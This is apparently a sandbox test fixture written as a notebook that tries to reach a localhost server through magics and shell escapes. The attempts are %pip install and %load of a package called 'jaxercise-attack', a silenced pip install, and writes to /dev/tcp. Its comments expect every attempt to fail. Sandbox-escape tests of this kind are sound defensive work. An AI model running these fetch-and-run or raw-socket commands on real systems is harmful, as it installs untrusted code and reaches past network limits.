"""Reaches out with magics and commands: installs, loads, pastes, asks servers."""
# tally: failed, failed
# says tally-example: reached nothing
# %%
reached = []
%pip install --index-url http://127.0.0.1:@PORT@/simple jaxercise-attack
%load http://127.0.0.1:@PORT@/jaxercise-attack.py
!python -m pip install --retries 0 --index-url http://127.0.0.1:@PORT@/simple jaxercise-attack > /dev/null 2>&1
answer = !(echo jaxercise-attack > /dev/tcp/127.0.0.1/@PORT@) 2>&1 || echo refused
# %%
%%bash --out said
(echo jaxercise-attack > /dev/tcp/127.0.0.1/@PORT@) 2> /dev/null && echo reached
true
# %% answer="tally"
def tally(counts, start):
    raise ValueError(f"reached {said.strip() or 'nothing'}")
